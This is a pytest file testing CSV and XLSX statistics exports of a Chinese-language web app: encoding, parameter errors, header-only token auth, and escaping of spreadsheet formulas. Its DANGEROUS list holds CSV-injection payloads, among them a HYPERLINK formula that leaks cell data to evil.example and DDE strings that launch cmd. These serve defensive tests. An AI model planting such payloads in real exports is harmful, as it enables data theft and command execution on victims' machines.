"""Statistics exports over the real HTTP app: CSV with a BOM and Chinese intact, XLSX readable,
user text never a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from neo4j import Driver
from openpyxl import load_workbook
from strawberry import relay

from graph.kernel.settings import Settings
from tests.conftest import GraphQLClient
from tests.schema.test_proposals import seed_and_submit


def test_csv_has_bom_and_chinese(api: GraphQLClient) -> None:
    seed_and_submit(api)
    response = api.get("/export/proposal-stats.csv?groupBy=INDUSTRY&groupBy=YEAR")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] == "行业代码 Industry key"
    body = {(r[0], r[2]): r[4] for r in rows[1:-1]}
    assert body[("C36", "2024")] == "1" and body[("C", "2024")] == "1"
    assert ["汽车制造业" in r for r in rows].count(True) == 1
    assert rows[-1][0] == "合计 Total"


def test_xlsx_opens(api: GraphQLClient) -> None:
    seed_and_submit(api)
    response = api.get("/export/proposal-stats.xlsx?groupBy=INDUSTRY_SECTION&from=2024-01-01")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][1] == "行业门类 Industry section"
    assert values[1][:3] == ("C", "制造业", 1)


def test_bad_parameter_is_400(api: GraphQLClient) -> None:
    for query, param in (
        ("groupBy=COLOUR", "groupBy"),
        ("from=yesterday", "from"),
        ("status=LOST", "status"),
        ("colour=red", "colour"),
    ):
        response = api.get(f"/export/proposal-stats.csv?{query}")
        assert response.status_code == 400, query
        error = response.json()["errors"][0]
        assert error["extensions"] == {"code": "INVALID", "parameter": param}
        assert " / " in error["message"]


def test_exports_need_a_token_in_the_header(api: GraphQLClient) -> None:
    anonymous = api.http.get("/export/proposal-stats.csv?groupBy=STATUS")
    assert anonymous.status_code == 401
    secret = api.headers["Authorization"].removeprefix("Bearer ")
    by_url = api.http.get(f"/export/proposal-stats.xlsx?groupBy=STATUS&token={secret}")
    assert by_url.status_code == 401  # a secret in a URL ends up in histories and logs
    assert api.get("/export/proposal-stats.xlsx?groupBy=STATUS").status_code == 200
    # With a header, `token` is just an unknown parameter.
    with_both = api.get(f"/export/proposal-stats.csv?groupBy=STATUS&token={secret}")
    assert with_both.status_code == 400
    assert with_both.json()["errors"][0]["extensions"]["parameter"] == "token"


# OWASP's formula starters; each must reach the spreadsheet as text, escaped with a quote.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", DANGEROUS)
def test_names_never_become_formulas(
    api: GraphQLClient, clean_graph: Driver, neo4j_settings: Settings, name: str
) -> None:
    seed_and_submit(api)
    # Straight into the graph: the export must be safe whatever the API lets in.
    clean_graph.execute_query(
        "MATCH (g:DeputyGroup) SET g.name = $name", name=name, database_=neo4j_settings.database
    )
    query = "groupBy=GROUP&from=2024-01-01"

    csv_response = api.get(f"/export/proposal-stats.csv?{query}")
    assert csv_response.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"), newline="")))
    assert rows[1][1] == "'" + name
    assert rows[1][2] == "1"  # counts stay plain numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)

    xlsx_response = api.get(f"/export/proposal-stats.xlsx?{query}")
    assert xlsx_response.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML turns a CR in text into LF; the escaping quote is what matters.
    assert sheet["B2"].value == "'" + name.replace("\r", "\n")
    assert sheet["B2"].data_type == "s"
    assert sheet["C2"].value == 1 and sheet["C2"].data_type == "n"


def _csv_rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_proposal_stats_export_has_the_new_columns_and_filters(api: GraphQLClient) -> None:
    seed_and_submit(api)
    level = _csv_rows(
        api.get("/export/proposal-stats.csv?groupBy=INDUSTRY&industryLevel=DIVISION&text=汽车")
    )
    header = level[0]
    assert header[0] == "行业（大类）代码 Industry (division) key"
    for name in ("已办结 Closed", "办结率 Closed rate (of assigned)", "满意 Satisfied"):
        assert name in header
    assert [r[0] for r in level[1:-1]] == ["C36"]  # one row at 大类, not C36 and C
    group = api("{ deputyGroups(first: 1) { nodes { id } } }")["deputyGroups"]["nodes"][0]["id"]
    by_group = _csv_rows(api.get(f"/export/proposal-stats.csv?groupBy=STATUS&group={group}"))
    assert by_group[-1][0] == "合计 Total"
    nothing = _csv_rows(api.get("/export/proposal-stats.csv?groupBy=STATUS&text=没有这样的标题"))
    assert len(nothing) == 2 and nothing[-1][2] == "0"  # the header and a total of none


def test_an_id_that_names_nothing_is_404_naming_the_parameter(api: GraphQLClient) -> None:
    seed_and_submit(api)
    missing = relay.GlobalID("Unit", "no-such-unit")
    response = api.get(f"/export/proposal-stats.csv?unit={missing}")
    assert response.status_code == 404
    assert response.json()["errors"][0]["extensions"] == {
        "code": "NOT_FOUND",
        "parameter": "unit",
    }
    wrong_kind = api.get(f"/export/activity-stats.csv?group={missing}")
    assert wrong_kind.status_code == 400
    assert wrong_kind.json()["errors"][0]["extensions"]["parameter"] == "group"


def test_activity_stats_export_reads_back(api: GraphQLClient) -> None:
    seed_and_submit(api)
    query = "{ activityStats(groupBy: [KIND]) { rows { keys { value } trips activities } } }"
    rows = api(query)["activityStats"]["rows"]
    table = _csv_rows(api.get("/export/activity-stats.csv?groupBy=KIND"))
    assert table[0][:3] == ["类型代码 Kind key", "类型 Kind", "活动总数 Activities (all kinds)"]
    assert {r[0]: (int(r[3]), int(r[2])) for r in table[1:-1]} == {
        r["keys"][0]["value"]: (r["trips"], r["activities"]) for r in rows
    }
    book = api.get("/export/activity-stats.xlsx?groupBy=KIND&kind=LAW_CHECK&kind=RESEARCH")
    assert book.status_code == 200
    sheet = load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None and sheet.title == "视察调研统计"
    kinds = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)][:-1]
    assert set(kinds) <= {"LAW_CHECK", "RESEARCH"}
    bad = api.get("/export/activity-stats.csv?groupBy=COLOUR")
    assert bad.status_code == 400
    assert bad.json()["errors"][0]["extensions"]["parameter"] == "groupBy"
